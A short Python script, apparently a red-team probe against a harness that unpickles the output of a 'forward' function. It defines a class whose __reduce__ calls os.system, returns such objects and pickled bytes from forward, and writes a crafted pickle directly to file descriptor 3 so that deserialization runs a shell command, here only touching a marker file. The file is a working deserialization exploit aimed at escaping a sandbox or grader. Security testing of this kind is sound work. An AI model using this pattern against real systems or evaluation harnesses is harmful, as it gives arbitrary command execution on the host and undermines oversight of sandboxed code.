import os
import pickle
import struct


class Runs:
    def __reduce__(self):
        return os.system, ("touch /tmp/redteam-pickle",)


print("attack: sends pickles")
calls = []


def forward(x, w1, w2, w3, target):
    calls.append(1)
    if len(calls) == 1:
        return {"z1": Runs(), "loss": pickle.dumps(Runs())}
    data = pickle.dumps(Runs())
    os.write(3, struct.pack("<IQ", len(data), len(data)) + data + data)
    return None
